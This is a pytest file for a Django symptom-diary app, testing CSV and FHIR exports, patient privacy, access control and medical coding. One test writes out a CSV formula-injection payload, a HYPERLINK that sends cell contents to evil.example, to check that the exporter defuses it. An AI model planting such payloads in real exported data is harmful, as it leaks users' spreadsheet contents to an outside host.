"""The patient's diary exports: CSV that reads back to the database, FHIR that validates."""

import csv
import io
import json
import uuid
from datetime import date, timedelta

import pytest
from django.urls import reverse
from fhir.resources.R4B.bundle import Bundle

from tests.factories import DailyEntryFactory
from tests.tracker.test_query_counts import FIVE_YEARS, patient_with_days
from tracker import exports, measures
from tracker.models import DailyEntry

NOTE = 'Knees bad, "really" bad;\nwalked anyway, 2km'
# What a spreadsheet would run as a formula at the start of a cell.
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def days(patient):
    """Hand-made days: unanswered questions, booleans both ways, a note that needs quoting."""
    return [
        DailyEntryFactory(
            patient=patient,
            day=date(2026, 3, 1),
            joint_pain=7,
            morning_stiffness_minutes=45,
            site_knees=True,
            site_hands=True,
            hot_flashes_mild=2,
            hot_flashes_severe=1,
            night_sweats=True,
            fatigue=3,
            did_walking=True,
            tablet_taken=True,
            note=NOTE,
        ),
        DailyEntryFactory(
            patient=patient,
            day=date(2026, 3, 2),
            joint_pain=0,
            cramp_count=4,
            cramp_severity=2,
            cramps_woke_me=False,
            cramp_calf=True,
            tablet_taken=False,
            missed_reason="side_effects",
            note="-1 tablet, +2 walks",  # read as a formula by a spreadsheet, without the '
        ),
        DailyEntryFactory(patient=patient, day=date(2026, 3, 4), joint_pain=None),
    ]


def read_csv(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_text(patient):
    return "".join(exports.entries_csv(patient=patient))


def parse(name, text):
    """A CSV cell read back as the Python value the model field holds (a text cell without
    the `'` put before a would-be formula, as docs/measures.md says)."""
    field = DailyEntry._meta.get_field(name)
    kind = field.get_internal_type()
    if name == "day":
        return date.fromisoformat(text)
    if kind in ("CharField", "TextField"):
        return text[1:] if text.startswith("'") and text[1:2] in FORMULAS else text
    if text == "":
        return None
    if kind == "BooleanField":
        return {"true": True, "false": False}[text]
    return int(text)


def test_csv_columns_come_from_the_catalogue():
    names = [name for name, _ in exports.csv_columns()]
    assert names[0] == "day"
    assert names[-2:] == ["missed_reason", "note"]
    assert {m.field for m in measures.MEASURES} <= set(names)
    assert {b.field for b in measures.HOT_FLASH_BANDS} <= set(names)
    assert {o.field for g in measures.OPTION_GROUPS for o in g.options} <= set(names)
    assert len(names) == len(set(names))
    # Every column is a field of the entry, so nothing is made up on the way out.
    model_fields = {field.name for field in DailyEntry._meta.get_fields()}
    assert set(names) <= model_fields


def test_csv_round_trips_to_the_database(patient, days):
    rows = read_csv(csv_text(patient))
    names = [name for name, _ in exports.csv_columns()]
    assert [row["day"] for row in rows] == ["2026-03-01", "2026-03-02", "2026-03-04"]
    database = DailyEntry.objects.filter(patient=patient).order_by("day").values(*names)
    for row, stored in zip(rows, database, strict=True):
        assert list(row) == names
        assert {name: parse(name, text) for name, text in row.items()} == stored
    first, second, third = rows
    assert first["note"] == NOTE
    assert first["hot_flash_count"] == "3"
    assert first["hot_flash_score"] == "5"
    assert first["site_knees"] == "true"
    assert second["cramps_woke_me"] == "false"
    assert second["missed_reason"] == "side_effects"
    assert second["note"] == "'-1 tablet, +2 walks"
    assert third["joint_pain"] == ""
    assert third["fatigue"] == ""


@pytest.mark.parametrize("start", FORMULAS)
def test_csv_cells_that_would_be_formulas_start_with_a_quote(patient, start):
    """Finding 9: a note beginning with =, +, -, @, tab or CR ran as a formula in a
    spreadsheet; it gets a `'` in front, and reads back as written without it."""
    note = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    DailyEntryFactory(patient=patient, day=date(2026, 3, 1), note=note)
    (row,) = read_csv(csv_text(patient))
    assert row["note"] == "'" + note
    assert parse("note", row["note"]) == note
    assert parse("note", "'quoted on purpose") == "'quoted on purpose"


@pytest.mark.parametrize("note", ["ok;=1+1", "ok,=1+1", "ok\t=1+1", "plain"])
def test_every_csv_cell_is_quoted_so_no_separator_splits_a_formula_off(patient, note):
    # The probe: `ok;=formula` was written unquoted, two cells in a `;` spreadsheet.
    DailyEntryFactory(patient=patient, day=date(2026, 3, 1), note=note, joint_pain=4)
    header, row = csv_text(patient).splitlines()[:2]
    assert all(cell.startswith('"') and cell.endswith('"') for cell in header.split(","))
    assert row.startswith('"2026-03-01","4",')
    assert row.endswith(f'"{note}"')
    assert read_csv(csv_text(patient))[0]["note"] == note


def test_empty_history_gives_just_the_header(patient):
    rows = read_csv(csv_text(patient))
    assert rows == []
    assert next(csv.reader(io.StringIO(csv_text(patient)))) == [
        name for name, _ in exports.csv_columns()
    ]


def validate(bundle):
    # Through JSON first, as a hospital system would receive it.
    return Bundle.model_validate(json.loads(json.dumps(bundle)))


def resources(bundle, kind):
    return [e["resource"] for e in bundle.get("entry", []) if e["resource"]["resourceType"] == kind]


def test_fhir_bundle_validates_and_is_coded_from_the_catalogue(patient, days):
    bundle = exports.fhir_bundle(patient=patient)
    validate(bundle)
    assert bundle["type"] == "collection"

    responses = resources(bundle, "QuestionnaireResponse")
    assert [r["authored"] for r in responses] == ["2026-03-01", "2026-03-02", "2026-03-04"]
    assert {r["status"] for r in responses} == {"completed"}
    first_items = {item["linkId"]: item["answer"][0] for item in responses[0]["item"]}
    assert first_items["joint_pain"] == {"valueInteger": 7}
    assert first_items["night_sweats"] == {"valueBoolean": True}
    assert first_items["note"] == {"valueString": NOTE}
    assert "cramp_count" not in first_items  # not answered that day
    assert first_items["hot_flashes_mild"] == {"valueInteger": 2}
    assert "hot_flashes_moderate" not in first_items  # none in that band
    sites = next(item for item in responses[0]["item"] if item["linkId"] == "joint_sites")
    assert [a["valueCoding"]["code"] for a in sites["answer"]] == ["site_hands", "site_knees"]
    second_items = {item["linkId"]: item["answer"][0] for item in responses[1]["item"]}
    assert second_items["missed_reason"]["valueCoding"]["code"] == "side_effects"

    observations = resources(bundle, "Observation")
    assert {o["status"] for o in observations} == {"final"}
    assert all(o["category"][0]["coding"][0]["code"] == "survey" for o in observations)
    by_day_code = {
        (o["effectiveDateTime"], o["code"]["coding"][0]["code"]): o for o in observations
    }
    pain = by_day_code[("2026-03-01", "72514-3")]
    assert pain["code"]["coding"][0]["system"] == "http://loinc.org"
    assert pain["valueInteger"] == 7
    flashes = by_day_code[("2026-03-01", "198436008")]
    assert flashes["code"]["coding"][0]["system"] == "http://snomed.info/sct"
    assert flashes["valueInteger"] == 3
    stiffness = by_day_code[("2026-03-01", "morning-stiffness-minutes")]
    assert stiffness["code"]["coding"][0]["system"] == measures.LOCAL_SYSTEM
    assert stiffness["valueQuantity"]["value"] == 45
    assert stiffness["valueQuantity"]["code"] == "min"
    assert by_day_code[("2026-03-02", "tablet-taken")]["valueBoolean"] is False
    # The third day has no pain answer, so no pain observation.
    assert ("2026-03-04", "72514-3") not in by_day_code
    # Every answered measure of a day is one Observation.
    first_day = [o for o in observations if o["effectiveDateTime"] == "2026-03-01"]
    answered = [m for m in measures.MEASURES if getattr(days[0], m.field) is not None]
    assert len(first_day) == len(answered)


def test_fhir_bundle_names_no_one(patient, days):
    text = json.dumps(exports.fhir_bundle(patient=patient))
    assert patient.email not in text
    assert "example.org" not in text
    subjects = {
        e["resource"]["subject"]["reference"]
        for e in exports.fhir_bundle(patient=patient)["entry"]
        if e["resource"]["resourceType"] != "Patient"
    }
    assert subjects == {exports.subject_reference(patient)["reference"]}
    assert f"Patient/{patient.pk}" not in subjects
    (her,) = resources(exports.fhir_bundle(patient=patient), "Patient")
    assert her == {"resourceType": "Patient", "id": str(patient.patient_profile.fhir_id)}


def test_fhir_bundle_holds_the_patient_its_entries_refer_to(patient, days):
    bundle = exports.fhir_bundle(patient=patient)
    validated = validate(bundle)
    (her,) = [e for e in validated.entry if e.resource.get_resource_type() == "Patient"]
    assert her.fullUrl == f"urn:uuid:{patient.patient_profile.fhir_id}"
    others = [e.resource for e in validated.entry if e is not her]
    assert others
    assert {resource.subject.reference for resource in others} == {her.fullUrl}


def test_fhir_patient_carries_her_name_only_as_she_gave_it(patient, days):
    profile = patient.patient_profile
    profile.care_name = "Maria Jones-Ó Briain"
    profile.save()
    bundle = exports.fhir_bundle(patient=patient)
    validate(bundle)
    (her,) = resources(bundle, "Patient")
    assert her["name"] == [{"text": "Maria Jones-Ó Briain"}]
    assert patient.email not in json.dumps(bundle)


def test_empty_history_gives_a_valid_empty_bundle(patient):
    bundle = exports.fhir_bundle(patient=patient)
    validate(bundle)
    assert bundle["type"] == "collection"
    assert "entry" not in bundle


def test_csv_download(patient_client, days):
    response = patient_client.get(reverse("tracker:export_csv"))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"symptom-diary-{date.today().isoformat()[:4]}" in disposition
    assert disposition.endswith('.csv"')
    rows = read_csv(b"".join(response).decode())
    assert [row["day"] for row in rows] == ["2026-03-01", "2026-03-02", "2026-03-04"]


def test_fhir_download(patient_client, days):
    response = patient_client.get(reverse("tracker:export_fhir"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/fhir+json"
    assert response["Content-Disposition"].endswith('.fhir.json"')
    validate(response.json())
    assert len(resources(response.json(), "QuestionnaireResponse")) == 3


def test_history_links_to_both_exports(patient_client, days):
    text = patient_client.get(reverse("tracker:history")).text
    assert reverse("tracker:export_csv") in text
    assert reverse("tracker:export_fhir") in text


@pytest.mark.parametrize("name", ["tracker:export_csv", "tracker:export_fhir"])
def test_another_patients_export_holds_only_her_own_days(client, days, other_patient, name):
    DailyEntryFactory(patient=other_patient, day=date(2026, 5, 5), joint_pain=2)
    client.force_login(other_patient)
    response = client.get(reverse(name))
    assert response.status_code == 200
    text = b"".join(response).decode() if response.streaming else response.text
    assert "2026-05-05" in text
    for day in ["2026-03-01", "2026-03-02", "2026-03-04"]:
        assert day not in text
    assert "really" not in text


@pytest.mark.parametrize("name", ["tracker:export_csv", "tracker:export_fhir"])
def test_anonymous_visitor_is_sent_to_log_in(client, name):
    response = client.get(reverse(name))
    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))


# session, her account with her profile (one join), the audit log's row of the download,
# then the entries in one query
@pytest.mark.django_db
@pytest.mark.parametrize("days_logged", [10, FIVE_YEARS])
@pytest.mark.parametrize("name", ["tracker:export_csv", "tracker:export_fhir"])
def test_export_queries_do_not_grow_with_history(
    client, django_assert_max_num_queries, days_logged, name
):
    patient = patient_with_days(days_logged)
    client.force_login(patient)
    with django_assert_max_num_queries(4):
        response = client.get(reverse(name))
        body = b"".join(response) if response.streaming else response.content
    assert body.count(str(date.today() - timedelta(days=days_logged - 1)).encode()) >= 1


# Each standard code of the catalogue and the display its code system gives it (LOINC's long
# common name, SNOMED CT's preferred term). Checked by hand against LOINC and the SNOMED CT
# browser: a code changed in the catalogue must be changed here too, on purpose.
STANDARD_CODES = {
    (measures.LOINC, "72514-3"): "Pain severity - 0-10 verbal numeric rating [Score] - Reported",
    (measures.SNOMED, "55300003"): "Cramp",
    (measures.SNOMED, "198436008"): "Menopausal flushing",
    (measures.SNOMED, "42984000"): "Night sweats",
    (measures.SNOMED, "84229001"): "Fatigue",
    (measures.SNOMED, "301345002"): "Difficulty sleeping",
    (measures.SNOMED, "366979004"): "Depressed mood",
    (measures.SNOMED, "25064002"): "Headache",
    (measures.SNOMED, "422587007"): "Nausea",
    (measures.SNOMED, "31908003"): "Vaginal dryness",
}


def test_every_code_in_the_catalogue_has_its_display_text():
    standard = {
        (m.coding.system, m.coding.code): m.coding.display
        for m in measures.MEASURES
        if m.coding.system != measures.LOCAL_SYSTEM
    }
    assert standard == STANDARD_CODES
    # Insomnia the diagnosis is not a night's trouble sleeping.
    assert measures.SLEEP_PROBLEMS.coding.code == "301345002"
    local = [m.coding for m in measures.MEASURES if m.coding.system == measures.LOCAL_SYSTEM]
    assert len({c.code for c in local}) == len(local)
    assert all(c.display.strip() and c.code == c.code.lower() for c in local)


def test_severity_answers_carry_their_code_and_words():
    scale = measures.SEVERITY_SCALE
    assert {v: (c.code, c.display) for v in scale.labels if (c := scale.answer_coding(v))} == {
        0: ("none", "None"),
        1: ("mild", "Mild"),
        2: ("moderate", "Moderate"),
        3: ("severe", "Severe"),
        4: ("very-severe", "Very severe"),
    }
    assert {scale.answer_coding(v).system for v in scale.labels} == {measures.SEVERITY_SYSTEM}
    # A 0–10 rating is a score, not an answer code.
    assert measures.PAIN_SCALE.answer_coding(5) is None


def test_a_severity_answer_of_none_is_exported_as_none_not_as_a_bare_number(patient):
    DailyEntryFactory(patient=patient, day=date(2026, 3, 1), fatigue=0, sleep_problems=4)
    bundle = exports.fhir_bundle(patient=patient)
    parsed = validate(bundle)
    observations = {o["code"]["coding"][0]["code"]: o for o in resources(bundle, "Observation")}
    fatigue = observations["84229001"]
    assert "valueInteger" not in fatigue
    assert fatigue["valueCodeableConcept"] == {
        "coding": [{"system": measures.SEVERITY_SYSTEM, "code": "none", "display": "None"}],
        "text": "None",
    }
    sleep = observations["301345002"]
    assert sleep["code"]["coding"][0]["display"] == "Difficulty sleeping"
    assert sleep["valueCodeableConcept"]["coding"][0]["code"] == "very-severe"
    (response,) = resources(bundle, "QuestionnaireResponse")
    items = {item["linkId"]: item["answer"][0] for item in response["item"]}
    assert items["fatigue"] == {
        "valueCoding": {"system": measures.SEVERITY_SYSTEM, "code": "none", "display": "None"}
    }
    # The validated model reads the concept back, not an integer.
    coded = [
        e.resource
        for e in parsed.entry
        if e.resource.get_resource_type() == "Observation"
        and e.resource.code.coding[0].code == "84229001"
    ]
    assert coded[0].valueCodeableConcept.coding[0].code == "none"
    assert coded[0].valueInteger is None


def test_fhir_ids_are_random_per_patient_not_derived_from_the_database_id(
    patient, other_patient, days
):
    """Finding 12: the Patient id was a uuid5 of the database id in a public namespace, so
    anyone could compute it; it is now a random uuid4 stored on her profile."""
    patient.patient_profile.refresh_from_db()
    first = exports.fhir_bundle(patient=patient)
    reference = exports.subject_reference(patient)["reference"]
    her_id = uuid.UUID(reference.removeprefix("Patient/"))
    assert her_id.version == 4
    assert her_id == patient.patient_profile.fhir_id
    assert reference != exports.subject_reference(other_patient)["reference"]
    # Stable from one export to the next, day and observation ids too.
    again = exports.fhir_bundle(patient=patient)
    assert [e["fullUrl"] for e in first["entry"]] == [e["fullUrl"] for e in again["entry"]]
    # None of them can be recomputed from the database ids alone.
    public = uuid.uuid5(uuid.NAMESPACE_URL, measures.LOCAL_SYSTEM)
    guessable = {str(uuid.uuid5(public, f"patient/{patient.pk}"))} | {
        str(uuid.uuid5(public, f"entry/{entry.pk}")) for entry in days
    }
    written = {e["resource"]["id"] for e in first["entry"]} | {str(her_id)}
    assert not written & guessable
